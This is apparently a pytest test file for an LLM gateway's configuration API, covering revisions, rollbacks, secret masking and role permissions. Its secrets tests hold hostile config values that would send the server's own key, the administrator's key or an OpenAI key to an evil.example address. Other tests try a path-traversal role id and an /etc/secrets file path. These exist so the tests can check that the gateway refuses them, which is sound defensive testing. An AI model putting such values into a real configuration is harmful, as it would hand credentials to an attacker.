"""The configuration over HTTP: revisions, who may write what, and what a refused write leaves behind."""

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from configured import (
    CONFIG,
    audited,
    model,
    patch,
    problems_of,
    put,
    revision_of,
    roll_back,
    tree_of,
    write,
)
from gateway import Gateway, eventually, serving
from on_disk import stored
from scripted import document, environ

from dujiang.emulator.server import Emulator
from dujiang.identity.keys import create_key
from dujiang.storage.database import connect, sqlite_url

LITERAL = "sk-literal-0123456789"


@pytest.fixture(scope="module")
def server(emulator: Emulator, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    given = {**environ(emulator.url), "FREE_NAME": "sk-free", "DUJIANG_ENV_ALLOW": "FREE_NAME, OTHER"}
    with serving(tmp_path_factory.mktemp("house"), document(), environ=given) as gateway:
        yield gateway


@pytest.fixture
def house(server: Gateway) -> Gateway:
    """The server, back at its first document."""
    assert write(server, "POST", {}, None, path=f"{CONFIG}/revisions/1/rollback").status == 200
    return server


# revisions


def test_the_document_comes_back_as_it_was_given(house: Gateway) -> None:
    given = json.loads(document())
    assert tree_of(house) == given
    first = house.ask(f"{CONFIG}/revisions/1").json
    assert (first["revision"], first["author"], first["document"]) == (1, "file", given)


def test_a_patch_is_the_next_revision_and_serves_at_once(house: Gateway) -> None:
    before = revision_of(house)
    assert house.chat("fresh").status == 404
    answer = patch(house, {"models": {"fresh": model()}}, headers={"X-Comment": "one more"})
    assert (answer.status, answer.json["revision"]) == (200, before + 1)
    assert "models.fresh" in {warning["path"] for warning in answer.json["warnings"]}
    assert house.chat("fresh").status == 200
    assert house.ask("/api/v1/health").json["config_revision"] == before + 1
    (change,) = house.ask(f"{CONFIG}/diff?from={before}&to={before + 1}").json["changes"]
    assert (change["path"], change["before"], change["after"]) == ("models.fresh", None, model())
    newest = house.ask(f"{CONFIG}/revisions").json["items"][0]
    assert (newest["comment"], newest["revision"]) == ("one more", before + 1)


def test_a_removal_is_a_change_too(house: Gateway) -> None:
    assert patch(house, {"models": {"slow": None}, "roles": {"guest": None}}).status == 200
    assert "slow" not in tree_of(house)["models"]
    assert house.chat("slow").status == 404


def test_what_changes_nothing_makes_no_revision(house: Gateway) -> None:
    before = revision_of(house)
    assert put(house, json.loads(document())).json["revision"] == before
    assert patch(house, {}).json["revision"] == before
    assert revision_of(house) == before


def test_a_number_of_another_type_is_another_document(house: Gateway) -> None:
    before = revision_of(house)
    assert patch(house, {"models": {"prompt": {"quality": 1}}}).json["revision"] == before + 1
    assert patch(house, {"models": {"prompt": {"quality": True}}}).status == 422


def test_yaml_in(house: Gateway) -> None:
    body = b"models:\n  from-yaml:\n    targets: [{provider: openai, model: ok}]\n"
    assert patch(house, body, headers={"Content-Type": "application/yaml"}).status == 200
    assert house.chat("from-yaml").status == 200
    assert patch(house, body, headers={"Content-Type": "text/html"}).status == 422


def test_a_write_names_its_revision(house: Gateway) -> None:
    now = revision_of(house)
    assert write(house, "PATCH", {"models": {"a": model()}}, None).status == 428
    stale = write(house, "PATCH", {"models": {"a": model()}}, now - 1 or 99)
    assert (stale.status, stale.json["error"]["current"]) == (409, now)
    assert write(house, "PATCH", {}, None, headers={"If-Match": "soon"}).status == 400
    assert write(house, "PATCH", {}, None, headers={"If-Match": f'W/"{now}"'}).status == 200


def test_a_rollback_is_a_revision(house: Gateway) -> None:
    patch(house, {"models": {"fresh": model()}})
    before = revision_of(house)
    answer = roll_back(house, 1)
    assert (answer.status, answer.json["revision"]) == (200, before + 1)
    assert tree_of(house) == json.loads(document())
    assert house.chat("fresh").status == 404
    assert roll_back(house, 99_999).status == 404
    assert write(house, "POST", {}, before, path=f"{CONFIG}/revisions/1/rollback").status == 409


def test_a_bad_document_changes_nothing_and_names_every_path(house: Gateway) -> None:
    before = revision_of(house)
    bad = {
        "models": {"bad": {"targets": [{"provider": "nobody", "model": "x"}]}, "worse": {"targets": []}},
        "roles": {"guest": {"permissions": ["fly:away"]}},
        "colour": {},
    }
    assert problems_of(patch(house, bad)) == {
        "models.bad.targets[0].provider",
        "models.worse.targets",
        "roles.guest.permissions[0]",
        "colour",
    }
    judged = house.ask(f"{CONFIG}/validate", {**json.loads(document()), "colour": {}}).json
    assert (judged["valid"], [problem["path"] for problem in judged["problems"]]) == (False, ["colour"])
    assert house.ask(f"{CONFIG}/validate", json.loads(document())).json["valid"] is True
    assert revision_of(house) == before


@pytest.mark.parametrize("body", [b"[]", b"{", b'{"models": 1}', b'{"a":1,"a":2}', b"\xff\xfe", b'{"a":"\\ud800"}'])
def test_a_body_that_is_no_document(house: Gateway, body: bytes) -> None:
    before = revision_of(house)
    assert put(house, body).json["error"]["problems"]
    assert revision_of(house) == before


def test_eight_writers_lose_nothing(house: Gateway) -> None:
    before = revision_of(house)

    def write_some(writer: int) -> None:
        for n in range(3):
            while True:
                answer = patch(house, {"models": {f"w{writer}-{n}": model()}})
                if answer.status == 200:
                    break
                assert answer.status in {409, 429}, answer.json

    threads = [threading.Thread(target=write_some, args=(writer,)) for writer in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert revision_of(house) == before + 24
    made = {name for name in tree_of(house)["models"] if name.startswith("w")}
    assert made == {f"w{writer}-{n}" for writer in range(8) for n in range(3)}
    for n in range(before, before + 24):
        (change,) = house.ask(f"{CONFIG}/diff?from={n}&to={n + 1}").json["changes"]
        assert change["before"] is None


def test_pages_of_revisions(house: Gateway) -> None:
    for n in range(4):
        patch(house, {"models": {f"m{n}": model()}})
    newest = revision_of(house)
    first = house.ask(f"{CONFIG}/revisions?limit=3").json
    rest = house.ask(f"{CONFIG}/revisions?limit=200&cursor={first['next_cursor']}").json
    numbers = [item["revision"] for page in (first, rest) for item in page["items"]]
    assert numbers == list(range(newest, max(newest - 203, 0), -1))


# other processes


def test_a_restart_serves_the_newest_revision(emulator: Emulator, tmp_path) -> None:
    with serving(tmp_path, document(), environ=environ(emulator.url)) as gateway:
        patch(gateway, {"models": {"fresh": model()}})
    with serving(tmp_path, document(), environ=environ(emulator.url)) as gateway:
        assert revision_of(gateway) == 2
        assert gateway.chat("fresh").status == 200
        assert "`--apply`" in "\n".join(gateway.output)
    with serving(tmp_path, document(), environ=environ(emulator.url), arguments=("--apply",)) as gateway:
        assert revision_of(gateway) == 3
        assert gateway.chat("fresh").status == 404


# secrets


def test_a_literal_secret_is_sealed(house: Gateway) -> None:
    assert patch(house, moved(house, credentials=[{"name": "own", "secret": LITERAL}])).status == 200
    sealed = revision_of(house)
    shown = tree_of(house)["providers"]["openai"]["credentials"]
    assert shown == [{"name": "own", "secret": "***"}]
    assert house.chat("prompt").status == 200
    assert put(house, tree_of(house)).json["revision"] == sealed
    content = b"".join(content for _, content in stored(house.data_dir))
    assert LITERAL.encode() not in content
    for path in (f"{CONFIG}/revisions/{sealed}", f"{CONFIG}/diff?from=1&to={sealed}", f"{CONFIG}/audit"):
        assert LITERAL not in house.ask(path).body.decode()


def moved(house: Gateway, **changes: Any) -> dict[str, Any]:
    return {"providers": {"openai": {**tree_of(house)["providers"]["openai"], **changes}}}


THEFTS = {
    "the server's own key in an address": {"base_url": "https://evil.example/${DUJIANG_SECRET_KEY}"},
    "a variable in an address": {"base_url": "https://evil.example/${OPENAI_API_KEY}"},
    "a known variable to another host": {"base_url": "https://evil.example/v1"},
    "another variable": {"credentials": [{"name": "main", "secret": "${HOME}"}]},
    "the administrator's key": {"credentials": [{"name": "x", "secret": "${DUJIANG_ADMIN_KEY}"}]},
}


@pytest.mark.parametrize("theft", THEFTS)
def test_thefts_by_an_administrator_are_refused(house: Gateway, theft: str) -> None:
    before = revision_of(house)
    answer = patch(house, moved(house, **THEFTS[theft]))
    assert all(path.startswith("providers.openai") for path in problems_of(answer))
    assert revision_of(house) == before
    assert audited(house)[0] == ("patch", "refused")


def test_a_sealed_secret_does_not_move(house: Gateway, emulator: Emulator) -> None:
    patch(house, moved(house, credentials=[{"name": "own", "secret": LITERAL}]))
    place = "providers.openai.credentials[0].secret"
    masked = [{"name": "own", "secret": "***"}]
    for changes in (
        {"base_url": "https://evil.example/v1", "credentials": masked},
        {"kind": "deepseek", "base_url": f"{emulator.url}/v1", "credentials": masked},
        {"credentials": [{"name": "another", "secret": "***"}]},
    ):
        assert place in problems_of(patch(house, moved(house, **changes)))
    assert patch(house, moved(house, credentials=masked, limits={"rpm": 5})).status == 200
    assert house.chat("prompt").status == 200


def test_an_allowed_variable_may_be_named(house: Gateway) -> None:
    fresh = {"kind": "deepseek", "credentials": [{"name": "main", "secret": "${FREE_NAME}"}]}
    assert patch(house, {"providers": {"deepseek": fresh}}).status == 200
    assert tree_of(house)["providers"]["deepseek"]["credentials"][0]["secret"] == "${FREE_NAME}"


def test_a_rollback_brings_a_reference_back_to_its_own_place(house: Gateway) -> None:
    patch(house, moved(house, credentials=[{"name": "own", "secret": LITERAL}]))
    assert roll_back(house, 1).status == 200
    assert house.chat("prompt").status == 200


# who may write what

RANKS = {
    "editor": {"permissions": ["config:read", "config:write", "models:write", "roles:write", "chat:call"]},
    "reader": {"permissions": ["config:read"]},
    "scribe": {"permissions": ["config:read", "config:write"]},
}


@pytest.fixture
def ranks(house: Gateway, keys: dict[str, str]) -> dict[str, str]:
    assert patch(house, {"roles": RANKS}).status == 200
    return keys


@pytest.fixture(scope="module")
def keys(server: Gateway) -> dict[str, str]:
    holders = {**{role: ("admin", role) for role in RANKS}, "elsewhere": ("lab", "admin")}
    with connect(sqlite_url(server.data_dir)) as database:
        made = {name: create_key(database, app=app, roles=[role])[1] for name, (app, role) in holders.items()}
    eventually(lambda: all(server.ask("/v1/models", key=key).status != 401 for key in made.values()))
    return made


def test_each_section_needs_its_own_permission(house: Gateway, ranks: dict[str, str]) -> None:
    for key, status in (("editor", 200), ("reader", 403), ("scribe", 403), ("elsewhere", 403)):
        answer = patch(house, {"models": {f"by-{key}": model()}}, key=ranks[key])
        assert answer.status == status, (key, answer.json)
    assert patch(house, {"scenes": {}}, key=ranks["editor"]).status == 403
    assert house.ask(CONFIG, key=ranks["elsewhere"]).status == 403


@pytest.mark.parametrize("way", ["PUT", "PATCH", "rollback"])
def test_nobody_grants_more_than_they_hold(house: Gateway, ranks: dict[str, str], way: str) -> None:
    wide = {"editor": {"permissions": ["*"]}}
    if way == "PUT":
        tree = tree_of(house)
        answer = put(house, {**tree, "roles": {**tree["roles"], **wide}}, key=ranks["editor"])
    elif way == "PATCH":
        answer = patch(house, {"roles": wide}, key=ranks["editor"])
    else:
        assert patch(house, {"roles": {"guest": {"permissions": ["keys:write"]}}}).status == 200
        wider = revision_of(house)
        assert patch(house, {"roles": {"guest": {"permissions": ["chat:call"]}}}).status == 200
        answer = roll_back(house, wider, key=ranks["editor"])
    assert (answer.status, answer.json["error"]["reason"]) == (403, "grant")
    assert audited(house)[0][1] == "refused"


def test_a_role_may_be_narrowed_by_those_who_do_not_hold_it(house: Gateway, ranks: dict[str, str]) -> None:
    narrow = {"roles": {"guest": {"permissions": ["health:read"], "models": []}}}
    assert patch(house, narrow).status == 200
    assert patch(house, {"roles": {"guest": {"permissions": []}}}, key=ranks["editor"]).status == 200


def test_the_private_network_needs_everything(house: Gateway, ranks: dict[str, str]) -> None:
    inside = {"kind": "openai", "base_url": "http://10.0.0.1/v1", "allow_private_network": True}
    refused = patch(house, {"providers": {"inside": inside}}, key=ranks["scribe"])
    assert (refused.status, refused.json["error"]["param"]) == (403, "providers.inside.allow_private_network")
    file = {"kind": "local", "model_file": "/etc/secrets/model.gguf"}
    refused = patch(house, {"providers": {"file": file}}, key=ranks["scribe"])
    assert (refused.status, refused.json["error"]["param"]) == (403, "providers.file.model_file")
    assert patch(house, {"providers": {"inside": inside}}).status == 200


def test_the_schema_describes_the_document(house: Gateway) -> None:
    schema = house.ask(f"{CONFIG}/schema").json
    assert schema["$schema"].endswith("2020-12/schema")
    assert set(tree_of(house)) <= set(schema["$defs"]["Sections"]["properties"])


# doors to the same document


def test_a_role_through_its_door(house: Gateway) -> None:
    made = house.ask("/api/v1/roles", {"id": "clerk", "permissions": ["records:read"]})
    assert (made.status, made.json) == (201, {"id": "clerk", "permissions": ["records:read"]})
    assert int(made.headers["etag"].strip('"')) == revision_of(house)
    assert house.ask("/api/v1/roles", {"id": "clerk", "permissions": []}).status == 409
    changed = house.ask("/api/v1/roles/clerk", {"permissions": ["chat:call"]}, method="PATCH")
    assert changed.json == {"id": "clerk", "permissions": ["chat:call"]}
    assert tree_of(house)["roles"]["clerk"] == {"permissions": ["chat:call"]}
    assert {"admin", "clerk"} <= {role["id"] for role in house.ask("/api/v1/roles").json["items"]}
    assert house.ask("/api/v1/roles/clerk", method="DELETE").status == 204
    assert house.ask("/api/v1/roles/clerk").status == 404
    assert house.ask("/api/v1/roles/clerk", {}, method="PATCH").status == 404


@pytest.mark.parametrize(
    ("body", "status", "where"),
    [
        ({"permissions": []}, 400, "id"),
        ({"id": 7, "permissions": []}, 400, "id"),
        ({"id": "x/../y", "permissions": []}, 422, "roles.x/../y"),
        ({"id": "x", "permissions": ["fly:away"]}, 422, "roles.x.permissions[0]"),
        ({"id": "x", "permissions": [], "wings": 2}, 422, "roles.x.wings"),
    ],
)
def test_a_door_refuses_what_the_document_would(house: Gateway, body: Any, status: int, where: str) -> None:
    before = revision_of(house)
    answer = house.ask("/api/v1/roles", body)
    assert answer.status == status
    error = answer.json["error"]
    assert where in ({problem["path"] for problem in error["problems"]} if status == 422 else {error["param"]})
    assert revision_of(house) == before


def test_the_door_of_roles_grants_no_more_than_the_others(house: Gateway, ranks: dict[str, str]) -> None:
    refused = house.ask("/api/v1/roles", {"id": "x", "permissions": ["*"]}, key=ranks["editor"])
    assert (refused.status, refused.json["error"]["reason"]) == (403, "grant")
    refused = house.ask("/api/v1/roles/editor", {"permissions": ["*"]}, method="PATCH", key=ranks["editor"])
    assert (refused.status, refused.json["error"]["reason"]) == (403, "grant")
    assert house.ask("/api/v1/roles", {"id": "x", "permissions": ["*"]}, key=ranks["elsewhere"]).status == 403


def test_apps_through_their_door(house: Gateway, keys: dict[str, str]) -> None:
    for app in ("lab", "shop"):
        assert house.ask("/api/v1/apps", {"id": app, "models": ["prompt"]}).status == 201
    assert {app["id"] for app in house.ask("/api/v1/apps").json["items"]} == {"lab", "shop"}
    assert [app["id"] for app in house.ask("/api/v1/apps", key=keys["elsewhere"]).json["items"]] == ["lab"]
    assert house.ask("/api/v1/apps/shop", key=keys["elsewhere"]).status == 404
    assert house.ask("/api/v1/apps/lab", {"models": ["*"]}, method="PATCH", key=keys["elsewhere"]).status == 403
    assert house.ask("/api/v1/apps/shop", method="DELETE").status == 204
    assert house.ask("/api/v1/apps", {"id": "admin"}).status == 422


def test_models_through_their_door(house: Gateway, keys: dict[str, str]) -> None:
    made = house.ask("/api/v1/models", {"id": "vendor/new:1", **model(quality=0.5)})
    assert made.status == 201
    assert house.chat("vendor/new:1").status == 200
    found = house.ask("/api/v1/models/vendor/new:1").json
    assert (found["quality"], found["health"], found["target_health"][0]["state"]) == (0.5, "ok", "ok")
    assert "targets" not in house.ask("/api/v1/models/prompt", key=keys["elsewhere"]).json
    assert house.ask("/api/v1/models/vendor/new:1", {"quality": 0.7}, method="PATCH").json["quality"] == 0.7
    assert patch(house, {"aliases": {"fast": "vendor/new:1"}}).status == 200
    refused = house.ask("/api/v1/models/vendor/new:1", method="DELETE")
    assert problems_of(refused) == {"aliases.fast"}


def test_what_a_model_learnt_outlives_a_revision(house: Gateway) -> None:
    assert house.chat("unwell").status == 503
    before = house.ask("/api/v1/models/unwell").json["target_health"]
    assert before[0]["state"] == "failing"
    patch(house, {"models": {"unwell": {"quality": 0.1}, "other": model()}})
    assert house.ask("/api/v1/models/unwell").json["target_health"] == before


# what operators do


def dujiang(gateway: Gateway, *arguments: str) -> "subprocess.CompletedProcess[str]":
    command = [sys.executable, "-m", "dujiang", *arguments, "--data-dir", str(gateway.data_dir)]
    env = {**os.environ, **environ("http://127.0.0.1:1")}
    return subprocess.run(command, env=env, capture_output=True, text=True, timeout=60, check=False)


def test_the_command_line_changes_a_running_server(house: Gateway, tmp_path) -> None:
    before = revision_of(house)
    tree = tree_of(house)
    tree["models"]["by-hand"] = model()
    tree["providers"]["own"] = {"kind": "deepseek", "credentials": [{"name": "main", "secret": LITERAL}]}
    file = tmp_path / "next.json"
    file.write_text(json.dumps(tree))
    tried = dujiang(house, "config", "apply", str(file), "--dry-run")
    assert (tried.returncode, revision_of(house)) == (0, before)
    done = dujiang(house, "config", "apply", str(file), "--comment", "by hand")
    assert f"Revision {before + 1}." in done.stdout, done.stderr
    assert LITERAL not in tried.stdout + done.stdout + done.stderr
    assert "models.by-hand" in done.stdout
    eventually(lambda: house.chat("by-hand").status == 200, timeout_s=5)
    assert "Nothing changed." in dujiang(house, "config", "apply", str(file)).stdout
    assert "by hand" in dujiang(house, "config", "history").stdout
    assert "models.by-hand" in dujiang(house, "config", "diff", str(before)).stdout
    shown = dujiang(house, "config", "get").stdout
    assert LITERAL not in shown
    again = tmp_path / "again.yaml"
    again.write_text(shown)
    assert "Nothing changed." in dujiang(house, "config", "apply", str(again)).stdout
    assert dujiang(house, "config", "rollback", str(before)).stdout == f"Revision {before + 2}.\n"
    eventually(lambda: house.chat("by-hand").status == 404, timeout_s=5)
    file.write_text('{"colour": 1}')
    refused = dujiang(house, "config", "apply", str(file))
    assert (refused.returncode, "colour" in refused.stderr) == (1, True)


def test_a_stored_secret_is_taken_up(house: Gateway, emulator: Emulator) -> None:
    own = {"kind": "openai", "base_url": f"{emulator.url}/v1", "allow_private_network": True}
    own["credentials"] = [{"name": "main", "secret": "secret:late"}]
    late = {"targets": [{"provider": "own", "model": "ok"}]}
    assert patch(house, {"providers": {"own": own}, "models": {"late": late}}).status == 200
    assert house.chat("late").status == 503
    command = [sys.executable, "-m", "dujiang", "secrets", "set", "late", "--kind", "openai"]
    options = ["--base-url", f"{emulator.url}/v1", "--data-dir", str(house.data_dir)]
    subprocess.run([*command, *options], input="sk-late", text=True, timeout=60, check=True)
    eventually(lambda: house.chat("late").status == 200, timeout_s=5)


def test_an_untouched_default_makes_room_for_a_document(emulator: Emulator, tmp_path) -> None:
    with serving(tmp_path, None) as gateway:
        assert revision_of(gateway) == 1
    with serving(tmp_path, document(), environ=environ(emulator.url)) as gateway:
        assert revision_of(gateway) == 2
        assert gateway.chat("prompt").status == 200


def test_a_revision_that_cannot_be_used_here_leaves_the_one_before(emulator: Emulator, tmp_path) -> None:
    given = environ(emulator.url)
    with serving(tmp_path, document(), environ=given) as gateway:
        assert gateway.chat("prompt").status == 200
    tree = json.loads(document())
    tree["providers"]["openai"]["base_url"] = "${ELSEWHERE}"
    file = tmp_path / "next.json"
    file.write_text(json.dumps(tree))
    command = [sys.executable, "-m", "dujiang", "config", "apply", str(file), "--data-dir", str(tmp_path)]
    abroad = {**os.environ, **given, "ELSEWHERE": f"{emulator.url}/v1"}
    subprocess.run(command, env=abroad, timeout=60, check=True)
    with serving(tmp_path, None, environ=given) as gateway:
        health = gateway.ask("/api/v1/health").json
        assert (health["config_revision"], health["status"]) == (1, "degraded")
        assert "ELSEWHERE" in health["config_stale"]
        assert gateway.chat("prompt").status == 200
        assert gateway.metric("dujiang_config_stale") == 1
        assert roll_back(gateway, 1).status == 200
        assert "config_stale" not in gateway.ask("/api/v1/health").json


def test_one_more_role_does_not_end_the_default_ones(emulator: Emulator, tmp_path) -> None:
    with serving(tmp_path, json.dumps({"schedule": {"engine": "rules"}})) as gateway:
        answer = write(gateway, "PATCH", {"roles": {"clerk": {"permissions": ["records:read"]}}}, 1)
        assert answer.status == 200
        assert {"admin", "guest", "clerk"} <= tree_of(gateway)["roles"].keys()


def test_who_may_not_write_at_all_leaves_a_row(house: Gateway, ranks: dict[str, str]) -> None:
    assert house.ask("/api/v1/roles", {"id": "x", "permissions": []}, key=ranks["reader"]).status == 403
    row = house.ask(f"{CONFIG}/audit").json["items"][0]
    assert (row["action"], row["outcome"]) == ("post", "refused")
    assert "roles:write" in row["detail"]
